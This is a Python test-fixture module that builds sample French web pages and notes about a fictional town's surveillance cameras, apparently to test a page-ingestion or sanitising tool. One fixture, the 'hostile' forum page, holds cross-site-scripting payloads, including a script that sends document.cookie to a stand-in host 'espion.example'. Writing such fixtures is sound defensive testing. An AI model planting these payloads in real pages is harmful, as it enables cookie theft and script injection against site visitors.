"""Saved web pages, plain notes, and pages that would like to do harm."""

from .story import fill_facts, set_french

FAQ = """<!DOCTYPE html>
<html lang="fr"><head><meta charset="utf-8"><title>Vaucreuse sereine : vos questions, nos réponses</title>
<link rel="canonical" href="https://www.vaucreuse.example/vaucreuse-sereine/faq">
<meta name="date" content="2021-09-14"></head>
<body><nav>Accueil · Ma ville · Mes démarches · Vaucreuse sereine</nav>
<main><h1>Vaucreuse sereine : vos questions, nos réponses</h1>
<h2>Combien de caméras ?</h2><p>La ville compte {cameras.council} caméras, toutes autorisées par le préfet.</p>
<h2>Y a-t-il des micros ?</h2><p>Non. L'observatoire du bruit mesure des décibels.</p>
<h2>Et la reconnaissance faciale ?</h2><p>Vaucreuse n'utilise pas la reconnaissance faciale. Elle n'en a ni le projet ni les moyens.</p>
<h2>Combien de temps gardez-vous les images ?</h2><p>{days.authorised_2019} jours, pas un de plus.</p></main>
<footer>© Ville de Vaucreuse 2021 — Mentions légales</footer></body></html>
"""
NEWS = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1252">
<title>Micros : la mairie dément</title></head><body bgcolor="#ffffff">
<p><font size="2">L'Éclaireur de la Lorme — mercredi 18 janvier 2023</font></p>
<h1>« Il n'y a pas de micros… » : la mairie dément</h1>
<p>Le {firms.collective} a fait constater vingt et un boîtiers « percés de quatre orifices ». L'hôtel de ville parle d'« œil bienveillant » et renvoie à l'observatoire du bruit.</p>
<p>Le cœur du système, l'hyperviseur VIGIE, a coûté {money.final} € hors taxes, selon nos calculs – soit 82 % de plus que l'estimation de 2019.</p>
<p>Contacté, M. {people.safety_deputy} n'a pas souhaité répondre.</p></body></html>
"""
HOSTILE = """<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>Forum des riverains <script>alert('titre')</script></title>
<script>document.title = "pris"; fetch("https://espion.example/?" + document.cookie)</script></head>
<body onload="alert('corps')"><h1>Forum des riverains du Port-Sec</h1>
<p>Message de <b>gardien_du_phare</b> : la caméra C-69 regarde la porte du collectif.</p>
<img src="x" onerror="alert('image')"><svg onload="alert('svg')"></svg>
<a href="javascript:alert('lien')">Voir la photographie</a>
<iframe src="https://espion.example/cadre"></iframe>
<p>&lt;script&gt;alert('texte')&lt;/script&gt; est du texte et doit le rester.</p></body></html>
"""
NOTES = """Notes de la réunion du collectif, 7 janvier 2023 (local, 22 rue des Chardons)

- Comptage à pied, quatre équipes : 83 caméras. La ville en déclare 48, sa carte en montre 69, son fichier 71.
- 12 caméras sur aucune liste. La plus proche est devant notre porte.
- Demander un constat au commissaire de justice (Maud appelle).
- Le PV chiffré : mot de passe inconnu. Fabrice G. aurait signé un bordereau ; le demander aussi.
- Les cloches de Saint-Aldric sonnent encore l'angélus à midi. Chaque fois, la C-02 se tourne vers le clocher.
"""
QUESTION = """QUESTION ORALE
posée par Mme Solène Karadec au conseil municipal du 17 octobre 2019

Monsieur le maire,

L'avis de marché parlait de quarante-huit caméras environ. L'acte d'engagement en compterait soixante-deux.
Pouvez-vous nous dire laquelle de ces deux villes nous habitons ?

(Question non inscrite à l'ordre du jour, réception tardive.)
"""


def make_faq() -> bytes:
    """The city's questions and answers, in UTF-8."""
    return set_french(fill_facts(FAQ)).encode()


def make_news() -> bytes:
    """A newspaper's page, in windows-1252."""
    return set_french(fill_facts(NEWS), narrow=False).encode("cp1252")


def make_hostile_page() -> bytes:
    """A forum page that tries to run scripts in seven ways."""
    return HOSTILE.encode()


def make_notes(*, encoding: str) -> bytes:
    """The collective's notes."""
    return NOTES.encode(encoding)


def make_question() -> bytes:
    """A question that was never answered, as a Mac wrote it."""
    return QUESTION.replace("\n", "\r").encode("mac_roman")
